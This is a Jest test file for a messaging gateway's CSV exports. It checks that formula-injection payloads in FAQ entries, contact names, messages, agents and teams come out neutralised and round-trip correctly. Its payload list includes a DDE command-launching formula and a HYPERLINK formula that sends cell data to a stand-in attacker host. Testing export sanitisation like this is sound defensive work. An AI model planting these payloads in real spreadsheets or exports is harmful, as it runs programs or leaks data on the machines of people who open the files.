/**
 * Issue #10, CSV formula injection: a spreadsheet runs a cell that starts with = + - @ (or
 * a tab / carriage return before one) as a formula — `=cmd|' /C calc'!A0` starts a program.
 * Every text cell the gateway exports is neutralised by src/core/csv.ts (a leading
 * apostrophe), and the CSV still parses back to the original text minus that apostrophe:
 * - any string, through csvCell/csvLine and back through an RFC 4180 parser (property);
 * - the FAQ export (GET /api/v1/faq/export?format=csv) with hostile questions, answers and
 *   variants — and its import gives back exactly the entries;
 * - the reports export (GET /api/v1/reports/export.csv) after conversations whose contact
 *   names, messages, agents and teams are formulas: no cell of it can run.
 */
import fc from 'fast-check';
import { composeGateway } from '../../app/compose';
import { loadSettings } from '../../app/settings';
import { parseCsv } from '../../bots/faq/csv';
import { csvCell, csvLine, FORMULA_START } from '../../src/core/csv';
import type { Gateway } from '../../src/server/gateway';
import { upsertAgent } from '../../src/store/repos/agents';
import { createInbox } from '../../src/store/repos/inboxes';
import { freshDataDir } from '../support/databases';
import { TEST_SECRET_KEY, TEST_SECRETS } from '../support/test-secrets';
import { FORMULA_STRINGS, fuzzOptions } from './hostile';

jest.setTimeout(60_000);

const PAYLOADS = [...FORMULA_STRINGS, '=HYPERLINK("https://evil.example?x="&A1,"bấm vào đây")', '@SUM(A1:A9)', '-1+1', '+cmd', "'''=1", '=1\n=2', '\t\t=1'];

/** What a spreadsheet would run: a cell starting with a formula character (plain numbers aside). */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
/** The importer's side: one neutralising apostrophe removed, nothing else. */
const unneutralise = (cell: string) => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);

describe('CSV cells (src/core/csv.ts)', () => {
  test.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))('%s is neutralised and parses back to itself', (_name, payload) => {
    const cell = parseCsv(`${csvLine([payload, 'next'])}\r\n`).rows[0]!.fields;
    expect(cell).toHaveLength(2);
    expect(runnable(cell[0]!)).toBe(false);
    expect(cell[0]!.startsWith("'")).toBe(true);
    expect(unneutralise(cell[0]!)).toBe(payload);
    expect(cell[1]).toBe('next');
  });

  test('any text: never runnable, parses back to the original, and quoting never breaks the row', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", '"', ',', '\n', ''), fc.string({ unit: 'binary', maxLength: 30 })).map(([a, b]) => a + b),
      fc.constantFrom(...PAYLOADS),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (values) => {
        const { rows, problems } = parseCsv(`${csvLine([...values, 'end'])}\r\n`);
        expect(problems).toEqual([]);
        expect(rows).toHaveLength(1);
        const fields = rows[0]!.fields;
        expect(fields).toHaveLength(values.length + 1);
        values.forEach((v, i) => {
          expect(runnable(fields[i]!)).toBe(false);
          expect(unneutralise(fields[i]!)).toBe(v);
        });
      }),
      fuzzOptions(300),
    );
  });

  test('numbers stay numbers (a negative number is not a formula); booleans and nulls are plain', () => {
    expect(csvLine([-2, 3.5, 0, Number.NaN, Infinity, null, undefined, true])).toBe('-2,3.5,0,,,,,true');
    expect(csvCell('-2')).toBe("'-2"); // the same characters as text are neutralised: text is never trusted
  });
});

describe('the exports over HTTP', () => {
  let gw: Gateway;
  let url: string;
  let token: string;
  const call = async (method: string, path: string, body?: string, type = 'application/json') => {
    const res = await fetch(`${url}/api/v1${path}`, { method, headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': type } : {}) }, body });
    return { status: res.status, text: await res.text(), headers: res.headers };
  };

  beforeAll(async () => {
    gw = await composeGateway(loadSettings({ DATA_DIR: await freshDataDir(), PORT: '0', HOST: '127.0.0.1', LOG_LEVEL: 'silent', OMNIGATE_SECRET_KEY: TEST_SECRET_KEY }));
    url = await gw.listen();
    await upsertAgent(gw.db, { email: 'csv-admin@anphat.vn', name: 'Quản trị', role: 'admin', password: TEST_SECRETS.passwordSecurity });
    const login = await fetch(`${url}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: 'csv-admin@anphat.vn', password: TEST_SECRETS.passwordSecurity }) });
    token = ((await login.json()) as { token: string }).token;
  });
  afterAll(async () => gw?.close());

  test('FAQ export: hostile questions, answers and variants come out neutralised, and import gives back the same entries', async () => {
    const entries = PAYLOADS.map((p, i) => ({
      id: `csv-${i}`,
      question: `${p}`.trim() === '' ? `q${i}` : p,
      answer: p,
      variants: p.includes('|') ? ['+1+1', '@SUM(1)'] : [p, '-2+3'],
      lang: 'vi',
    }));
    for (const e of entries) {
      const res = await call('POST', '/faq', JSON.stringify(e));
      expect([e.id, res.status]).toEqual([e.id, 201]);
    }
    const saved = JSON.parse((await call('GET', '/faq')).text) as { items: { id: string; question: string; answer: string; variants: string[] }[] };
    const mine = saved.items.filter((e) => e.id.startsWith('csv-')).sort((a, b) => a.id.localeCompare(b.id));
    expect(mine).toHaveLength(entries.length);

    const exported = await call('GET', '/faq/export?format=csv');
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(exported.headers.get('content-disposition')).toMatch(/^attachment/);
    const { rows, problems } = parseCsv(exported.text);
    expect(problems).toEqual([]);
    const [header, ...body] = rows;
    expect(header!.fields).toEqual(['id', 'question', 'variants', 'answer', 'lang']);
    const byId = new Map(body.map((r) => [r.fields[0]!, r.fields]));
    for (const e of mine) {
      const fields = byId.get(e.id)!;
      expect(fields).toBeDefined();
      for (const f of fields) expect([e.id, f, runnable(f)]).toEqual([e.id, f, false]);
      // What the admin typed (as the API stored it), back from the file minus the apostrophe.
      expect(unneutralise(fields[1]!)).toBe(e.question);
      expect(unneutralise(fields[3]!)).toBe(e.answer);
      expect(unneutralise(fields[2]!)).toBe(e.variants.join('|'));
    }

    // The round trip: importing the exported file changes nothing.
    const imported = await call('POST', '/faq/import?format=csv', exported.text, 'text/csv');
    expect(imported.status).toBe(200);
    const after = (JSON.parse((await call('GET', '/faq')).text) as { items: typeof mine }).items.filter((e) => e.id.startsWith('csv-')).sort((a, b) => a.id.localeCompare(b.id));
    expect(after.map((e) => [e.id, e.question, e.answer, e.variants])).toEqual(mine.map((e) => [e.id, e.question, e.answer, e.variants]));
  });

  test('reports export: conversations with formula contact names, messages, agents and teams give a file with no runnable cell', async () => {
    const inbox = await createInbox(gw.db, { channel: 'widget', accountId: 'csv-shop', name: "=cmd|' /C calc'!A0", botEnabled: false, settings: {} });
    for (const [i, payload] of PAYLOADS.entries()) {
      const agent = await upsertAgent(gw.db, { email: `csv-agent-${i}@anphat.vn`, name: payload, role: 'agent', password: TEST_SECRETS.passwordSecurity });
      const team = await gw.db.insertInto('teams').values({ name: `${payload} #${i}` }).returning('id').executeTakeFirstOrThrow();
      await gw.db.insertInto('inbox_members').values({ inbox_id: inbox.id, agent_id: agent.id }).execute();
      const r = await gw.pipeline.ingest({ kind: 'message', channel: 'widget', accountId: 'csv-shop', externalUserId: `csv-visitor-${i}`, externalId: `csv-m-${i}`, sentAt: new Date(), content: { type: 'text', text: payload }, profile: { name: payload } });
      await gw.actions.assign(r.conversationId!, { agentId: agent.id, teamId: team.id }, { type: 'agent', id: agent.id });
      await gw.outbound.post(r.conversationId!, { content: { type: 'text', text: payload }, sender: { type: 'agent', id: agent.id } });
      await gw.actions.resolve(r.conversationId!, { type: 'agent', id: agent.id });
    }
    await gw.dispatcher.idle();
    await gw.rollups.flush();
    const from = new Date(Date.now() - 86_400_000).toISOString();
    const to = new Date(Date.now() + 86_400_000).toISOString();
    const res = await call('GET', `/reports/export.csv?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment/);
    const { rows, problems } = parseCsv(res.text);
    expect(problems).toEqual([]);
    const cells = rows.flatMap((r) => r.fields);
    expect(cells.length).toBeGreaterThan(50);
    expect(cells.filter(runnable)).toEqual([]);
    // The per-agent and per-team tables are there (one row per agent who resolved a conversation).
    const agentTable = rows.findIndex((r) => r.fields[0] === 'agent');
    expect(agentTable).toBeGreaterThan(0);
    expect(rows.filter((r, i) => i > agentTable && /^\d+$/.test(r.fields[0] ?? '')).length).toBeGreaterThanOrEqual(PAYLOADS.length);
  });
});
